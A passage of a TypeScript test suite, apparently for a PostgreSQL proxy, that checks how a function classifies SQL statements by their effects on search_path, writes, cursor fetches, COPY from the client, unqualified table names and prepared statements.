    'SET LOCAL search_path = secret',
    'RESET ALL',
    'DISCARD ALL',
    'COMMIT',
    'ROLLBACK',
    'ROLLBACK TO SAVEPOINT s1',
    "SELECT set_config('search_path', 'secret', false)",
    'SELECT my_function()',
    'CALL proc()',
    'EXECUTE p',
    'CREATE SCHEMA postgres',
    'SELECT 1; SET search_path = x',
    'this is not sql',
  ])('%s may change it', (sql) => {
    expect(sessionStateEffects(sql).searchPath).toBe(true);
  });

  it.each(['SELECT 1', 'SELECT * FROM orders WHERE id = 1', 'INSERT INTO t VALUES (1)', 'SHOW search_path', "SELECT 'search_path'"])('%s does not', (sql) => {
    expect(sessionStateEffects(sql).searchPath).toBe(false);
  });

  it.each([
    'INSERT INTO t VALUES (1)',
    'UPDATE t SET a = 1 WHERE id = 2',
    'DELETE FROM t WHERE id = 2',
    'MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE',
    'WITH n AS (INSERT INTO t VALUES (1) RETURNING id) SELECT id FROM n',
    'EXPLAIN ANALYZE DELETE FROM t',
  ])('%s writes: a trigger it fires runs code its text does not show', (sql) => {
    expect(sessionStateEffects(sql).writes).toBe(true);
  });

  it.each(['FETCH 10 FROM c', 'MOVE LAST IN c'])("%s runs the rest of a cursor's query", (sql) => {
    expect(sessionStateEffects(sql).runsCursorQuery).toBe(true);
  });

  it.each(['SELECT * FROM orders WHERE id = 1', 'COPY t TO STDOUT', 'SHOW search_path', 'DECLARE c CURSOR FOR SELECT 1', 'CLOSE c'])('%s neither writes nor fetches', (sql) => {
    expect(sessionStateEffects(sql)).toMatchObject({ writes: false, runsCursorQuery: false, copiesFromClient: false });
  });

  // COPY FROM fires triggers as INSERT does; from STDIN the proxy reads the path after the COPY's end.
  it.each([
    ['COPY t FROM STDIN', true],
    ["COPY t FROM STDIN WITH (FORMAT csv) WHERE abs(x) > 0", true],
    ["COPY t FROM '/tmp/rows.csv'", false],
    ["COPY t FROM PROGRAM 'cat /tmp/rows'", false],
  ] as const)('%s writes (from the client: %s)', (sql, fromClient) => {
    expect(sessionStateEffects(sql)).toMatchObject({ writes: true, copiesFromClient: fromClient });
  });

  it.each([
    'SET search_path = secret; SELECT * FROM orders',
    'BEGIN; SAVEPOINT a; SET LOCAL search_path = public; ROLLBACK TO SAVEPOINT a; SELECT * FROM orders',
    "SELECT set_config('search_path', 'secret', false); SELECT * FROM orders",
    'ROLLBACK; SELECT * FROM orders',
    'RESET ALL; SELECT * FROM orders',
    'SET SCHEMA \'secret\'; TABLE orders',
    "SET search_path = secret; INSERT INTO orders VALUES (1)",
    'SET search_path = secret; UPDATE orders SET a = 1 WHERE id = 2',
    'SET search_path = secret; DELETE FROM orders WHERE id = 2',
    'SET search_path = secret; COPY orders FROM STDIN',
  ])('%s names a table after changing the path in the same message', (sql) => {
    expect(sessionStateEffects(sql).unqualifiedAfterPathChange).toBe(true);
  });

  it.each([
    'SELECT * FROM orders; SET search_path = secret',
    'SET search_path = secret; SELECT * FROM public.orders',
    'SELECT count(*) FROM a; SELECT * FROM b',
    "SELECT 1 FROM a; SET application_name = 'x'; SELECT * FROM b",
    'BEGIN; SELECT * FROM orders; COMMIT',
  ])(
    '%s does not',
    (sql) => {
      expect(sessionStateEffects(sql).unqualifiedAfterPathChange).toBe(false);
    },
  );

  // Code an earlier statement runs unseen (a trigger, a view's function) may change the path before
  // a later one's unqualified name resolves: the proxy refuses that when the message runs such code.
  it.each([
    ['COPY log FROM STDIN; SELECT * FROM t', true],
    ["INSERT INTO log VALUES ('x'); SELECT * FROM t", true],
    ['SELECT * FROM v; TABLE t', true],
    ['BEGIN; SELECT * FROM orders; COMMIT', true],
    ['SELECT * FROM orders', false],
    ['SELECT * FROM orders; SELECT * FROM public.t', false],
    ['INSERT INTO public.log VALUES (1); SELECT 1', false],
  ] as const)('%s: a later statement names a table without its schema %s', (sql, later) => {
    expect(sessionStateEffects(sql).unqualifiedAfterFirstStatement).toBe(later);
  });

  // Only a name after the FETCH or the write can resolve against a path its code changed.
  it.each([
    ['COPY log FROM STDIN; SELECT * FROM t', false, true],
    ["INSERT INTO log VALUES ('x'); SELECT * FROM t", false, true],
    ["SELECT * FROM t; INSERT INTO log VALUES ('x')", false, false],
    ["SELECT * FROM public.t; INSERT INTO public.log VALUES ('x'); COMMIT", false, false],
    ['BEGIN; DECLARE c CURSOR FOR SELECT * FROM people; FETCH ALL FROM c; COMMIT', false, false],
    ['BEGIN; DECLARE c CURSOR FOR SELECT 1; FETCH ALL FROM c; SELECT * FROM t', true, false],
  ] as const)('%s: a name without its schema after a FETCH %s, after a write %s', (sql, afterCursor, afterWrite) => {
    expect(sessionStateEffects(sql)).toMatchObject({ unqualifiedAfterCursorQuery: afterCursor, unqualifiedAfterWrite: afterWrite });
  });

  it.each([
    ['SET search_path = secret', true, false],
    ["SELECT pg_catalog.set_config('search_path', 'public', false)", true, false],
    ['COMMIT', true, false],
    ['BEGIN', false, false],
    ['SELECT id FROM secrets WHERE id = 3', false, true],
    ['SELECT id FROM public.secrets', false, false],
  ])('%s: sets the path for what follows %s, names a table without its schema %s (one statement of a pipeline)', (sql, sets, unqualified) => {
    const effects = sessionStateEffects(sql);
    expect([effects.setsPathForLater, effects.namesUnqualifiedTable]).toEqual([sets, unqualified]);
  });

  it('lists PREPARE and DEALLOCATE in statement order', () => {
    expect(sessionStateEffects('PREPARE a AS SELECT 1; DEALLOCATE a; DEALLOCATE ALL; PREPARE b AS DELETE FROM t').preparedStatements).toEqual([
      { change: 'prepare', name: 'a' },
      { change: 'deallocate', name: 'a' },
      { change: 'deallocate', name: '*' },
      { change: 'prepare', name: 'b' },
    ]);
  });
});
